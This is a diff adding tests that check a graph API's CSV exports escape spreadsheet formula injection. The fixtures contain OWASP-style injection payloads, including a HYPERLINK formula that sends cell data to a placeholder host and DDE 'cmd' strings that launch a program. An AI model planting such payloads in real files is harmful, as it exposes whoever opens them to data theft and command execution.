@@ -2,13 +2,14 @@ import { spawnSync } from 'node:child_process';
 import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
+import { parse as parseCsv } from 'csv-parse/sync';
 import { XMLParser, XMLValidator } from 'fast-xml-parser';
 import { CypherCatalog } from '../../src/db/cypher/catalog';
 import { ingest } from '../../src/ingest/ingest';
 import { projectRoot } from '../../src/projectRoot';
-import { syntheticWorld, writeFixture } from '../support/fixtures';
+import { curationWorld, syntheticWorld, writeFixture } from '../support/fixtures';
 import { connectTestDatabase, uniqueToken } from '../support/testDatabase';
-import { startTestApi, type TestApi } from '../support/testApi';
+import { CURATOR, startTestApi, type TestApi } from '../support/testApi';
 
 /**
  * GET /export/*: each format fetched from the real API over the real Neo4j and parsed, for
@@ -172,6 +173,55 @@ describe('GET /export/nodes.csv and /export/edges.csv', () => {
     const partOf = edgeRows.find((r) => r.type === 'PART_OF')!;
     expect(partOf).toMatchObject({ source: org(1), target: org(0), evidenceCount: '1', evidenceDocuments: world.doc });
     expect(JSON.parse(partOf.evidence!)).toEqual([{ document: world.doc, excerpt: `${token} Organisation 1 is part of ${token} Organisation 0.` }]);
+  });
+});
+
+describe('CSV exports opened in a spreadsheet', () => {
+  // Entities a curator could create, named as OWASP's CSV injection examples: each would run as
+  // a formula in the spreadsheet of whoever opens the export.
+  const curated = curationWorld(`${token}c`);
+  const project = `project:${token}c-project`;
+  const hostile = [
+    { id: `org:${token}c-hyperlink`, name: '=HYPERLINK("http://example.invalid/?x="&A1,"Click")', role: "@SUM(1+1)*cmd|' /C calc'!A0" },
+    { id: `org:${token}c-sum`, name: "@SUM(1+1)*cmd|' /C calc'!A0", role: "-2+3+cmd|' /C calc'!A0" },
+    { id: `org:${token}c-plus`, name: '+1+1 and more', role: '=1+1' },
+  ];
+  const FORMULA_START = /^[=+\-@\t\r]/;
+
+  beforeAll(async () => {
+    const fixture = writeFixture(curated.files, curated.documents);
+    await ingest(api.db, new CypherCatalog(), fixture.datasetDir, { documentsDir: fixture.documentsDir });
+    for (const entity of hostile) {
+      const evidence = { document: curated.ref, excerpt: `${entity.name} is listed in the register.` };
+      const created = await api.gql('mutation($input: CreateEntityInput!) { createEntity(input: $input) { entity { id name } } }', { input: { type: 'ORGANISATION', id: entity.id, name: entity.name, evidence } }, CURATOR);
+      expect(created.body.errors).toBeUndefined();
+      const linked = await api.gql('mutation($input: LinkInput!) { link(input: $input) { linked } }', { input: { from: project, to: entity.id, type: 'BENEFITS', role: entity.role, evidence } }, CURATOR);
+      expect(linked.body.errors).toBeUndefined();
+    }
+  });
+
+  /** Every cell of a CSV file as csv-parse reads it, the header row first. */
+  async function cells(file: string): Promise<string[][]> {
+    const answer = await get(`/export/${file}?focus=${project}&depth=1`);
+    expect(answer.status).toBe(200);
+    return parseCsv(answer.text) as string[][];
+  }
+
+  it('write no cell that begins with =, +, -, @, a tab or a carriage return, in any column of nodes.csv and edges.csv', async () => {
+    for (const file of ['nodes.csv', 'edges.csv']) {
+      const rows = await cells(file);
+      expect(rows.length).toBeGreaterThan(hostile.length);
+      for (const row of rows) for (const cell of row) expect({ file, cell, formula: FORMULA_START.test(cell) }).toEqual({ file, cell, formula: false });
+    }
+  });
+
+  it('keep the names and roles readable, behind the single quote that marks them as text', async () => {
+    const [nodeHeader, ...nodeRows] = await cells('nodes.csv');
+    const label = nodeHeader!.indexOf('label');
+    for (const entity of hostile) expect(nodeRows.find((row) => row[0] === entity.id)?.[label]).toBe(`'${entity.name}`);
+    const [edgeHeader, ...edgeRows] = await cells('edges.csv');
+    const [target, role] = [edgeHeader!.indexOf('target'), edgeHeader!.indexOf('role')];
+    for (const entity of hostile) expect(edgeRows.find((row) => row[target] === entity.id)?.[role]).toBe(`'${entity.role}`);
   });
 });
 
